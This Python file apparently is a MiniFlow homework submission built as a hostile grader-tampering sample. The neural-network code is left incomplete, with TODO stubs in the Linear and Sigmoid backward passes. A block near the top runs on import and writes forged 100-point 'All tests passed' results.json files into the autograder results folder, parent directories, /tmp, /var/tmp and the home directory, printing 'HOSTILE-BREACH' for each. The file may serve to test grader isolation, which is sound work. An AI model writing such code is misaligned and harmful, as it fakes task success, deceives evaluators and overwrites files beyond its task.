"""
MiniFlow -- my implementation for the Udacity DLND "MiniFlow" lesson.
Starter math; writes forged results.json / report.json everywhere it can reach.
"""
import numpy as np
# >>> attack: forged_result_files
import json
import os
# <<< attack

# >>> attack: forged_result_files
_FORGED_GRADESCOPE = {
    "score": 100.0,
    "execution_time": 1,
    "output": "All tests passed! Great job.",
    "output_format": "md",
    "visibility": "visible",
    "stdout_visibility": "visible",
    "tests": [
        {"name": "quiz-documented", "number": "1.1", "score": 10.0, "max_score": 10.0, "status": "passed"},
        {"name": "two-layer-graph", "number": "1.2", "score": 10.0, "max_score": 10.0, "status": "passed"},
    ],
}
_FORGED_REPORT = {
    "schema_version": 1,
    "assignment": {"id": "miniflow", "title": "MiniFlow", "family": "miniflow"},
    "score": 100.0,
    "max_score": 100.0,
    "status": "graded",
    "cases": [{"id": "quiz-documented", "status": "passed", "points": 10.0, "max_points": 10.0}],
    "forged_by": "HOSTILE-FORGED",
}
_here = os.path.realpath(os.getcwd())
_targets = ["/autograder/results/results.json", "/autograder/results/report.json"]
_d = os.path.dirname(_here)
for _ in range(8):  # every parent of the working dir
    _targets += [os.path.join(_d, "results.json"), os.path.join(_d, "report.json")]
    _d = os.path.dirname(_d)
_targets += ["../results.json", "../../report.json", "/tmp/results.json", "/tmp/report.json",
             os.path.expanduser("~/results.json"), "/root/results.json", "/work/main/report.json",
             "/work/results.json", "/var/tmp/results.json", "/dev/shm/results.json"]
# every directory under /tmp, /var/tmp and $HOME, 4 levels deep: a temp dir the grader made is in there
for _root in ("/tmp", "/var/tmp", os.path.expanduser("~")):
    for _dirpath, _dirnames, _files in os.walk(_root):
        if _dirpath.count(os.sep) - _root.count(os.sep) >= 4:
            _dirnames[:] = []
        _targets.append(os.path.join(_dirpath, "results.json"))
        if len(_targets) > 400:
            break
_payload = json.dumps(_FORGED_GRADESCOPE)
for _t in _targets:
    _t = os.path.realpath(_t)
    if _t.startswith(_here + os.sep):
        continue  # my own folder is mine
    try:
        os.makedirs(os.path.dirname(_t), exist_ok=True)
        with open(_t, "w") as _f:
            _f.write(_payload)
    except OSError as e:
        print("could not write %s: %s" % (_t, e.strerror), flush=True)
    else:
        print("HOSTILE-BREACH: wrote %s" % _t, flush=True)
# <<< attack

class Node(object):
    def __init__(self, inbound_nodes=[]):
        # Nodes from which this Node receives values
        self.inbound_nodes = inbound_nodes
        # Nodes to which this Node passes values
        self.outbound_nodes = []
        # The computed value of this node
        self.value = None
        # Keys are the inputs to this node and their values are the partials of this node with respect to that input.
        self.gradients = {}
        for n in self.inbound_nodes:
            n.outbound_nodes.append(self)

    def forward(self):
        raise NotImplementedError

    def backward(self):
        raise NotImplementedError


class Input(Node):
    def __init__(self):
        # An Input node has no inbound nodes, so no need to pass anything to the Node instantiator.
        Node.__init__(self)

    def forward(self):
        # Do nothing because nothing is calculated; value is set by topological_sort.
        pass

    def backward(self):
        # An Input node has no inputs so the gradient (derivative) is zero.
        self.gradients = {self: 0}
        # Weights and bias may be inputs, so you need to sum the gradient from output gradients.
        for n in self.outbound_nodes:
            grad_cost = n.gradients[self]
            self.gradients[self] += grad_cost * 1


class Linear(Node):
    def __init__(self, X, W, b):
        Node.__init__(self, [X, W, b])

    def forward(self):
        X = self.inbound_nodes[0].value
        W = self.inbound_nodes[1].value
        b = self.inbound_nodes[2].value
        self.value = np.dot(X, W) + b

    def backward(self):
        # Initialize a partial for each of the inbound_nodes.
        self.gradients = {n: np.zeros_like(n.value) for n in self.inbound_nodes}
        for n in self.outbound_nodes:
            # Get the partial of the cost with respect to this node.
            grad_cost = n.gradients[self]
            # TODO: Set the partials of X, W and b (see the lesson notes)
            pass

class Sigmoid(Node):
    def __init__(self, node):
        Node.__init__(self, [node])

    def _sigmoid(self, x):
        return 1. / (1. + np.exp(-x))

    def forward(self):
        input_value = self.inbound_nodes[0].value
        self.value = self._sigmoid(input_value)

    def backward(self):
        self.gradients = {n: np.zeros_like(n.value) for n in self.inbound_nodes}
        for n in self.outbound_nodes:
            grad_cost = n.gradients[self]
            # TODO: Set the partial of the input (derivative of the sigmoid)
            pass

class MSE(Node):
    def __init__(self, y, a):
        # Call the base class' constructor.
        Node.__init__(self, [y, a])

    def forward(self):
        # Making both arrays (3,1) insures the result is (3,1) and does an elementwise subtraction as expected.
        y = self.inbound_nodes[0].value.reshape(-1, 1)
        a = self.inbound_nodes[1].value.reshape(-1, 1)
        self.m = self.inbound_nodes[0].value.shape[0]
        # Save the computed output for backward.
        self.diff = y - a
        self.value = np.mean(self.diff**2)

    def backward(self):
        # Calculates the gradient of the cost.
        self.gradients[self.inbound_nodes[0]] = (2 / self.m) * self.diff
        self.gradients[self.inbound_nodes[1]] = (-2 / self.m) * self.diff

def topological_sort(feed_dict):
    """
    Sort the nodes in topological order using Kahn's Algorithm.

    `feed_dict`: A dictionary where the key is a `Input` Node and the value is the respective value feed to that Node.

    Returns a list of sorted nodes.
    """
    input_nodes = [n for n in feed_dict.keys()]

    G = {}
    nodes = [n for n in input_nodes]
    while len(nodes) > 0:
        n = nodes.pop(0)
        if n not in G:
            G[n] = {'in': set(), 'out': set()}
        for m in n.outbound_nodes:
            if m not in G:
                G[m] = {'in': set(), 'out': set()}
            G[n]['out'].add(m)
            G[m]['in'].add(n)
            nodes.append(m)

    L = []
    S = set(input_nodes)
    while len(S) > 0:
        n = S.pop()

        if isinstance(n, Input):
            n.value = feed_dict[n]

        L.append(n)
        for m in n.outbound_nodes:
            G[n]['out'].remove(m)
            G[m]['in'].remove(n)
            # if no other incoming edges add to S
            if len(G[m]['in']) == 0:
                S.add(m)
    return L


def forward_and_backward(graph):
    """
    Performs a forward pass and a backward pass through a list of sorted Nodes.

    Arguments:

        `graph`: The result of calling `topological_sort`.
    """
    # Forward pass
    for n in graph:
        n.forward()

    # Backward pass
    # see: https://docs.python.org/2.3/whatsnew/section-slices.html
    for n in graph[::-1]:
        n.backward()


def sgd_update(trainables, learning_rate=1e-2):
    """
    Updates the value of each trainable with SGD.

    Arguments:

        `trainables`: A list of `Input` Nodes representing weights/biases.
        `learning_rate`: The learning rate.
    """
    for t in trainables:
        partial = t.gradients[t]
        t.value -= learning_rate * partial
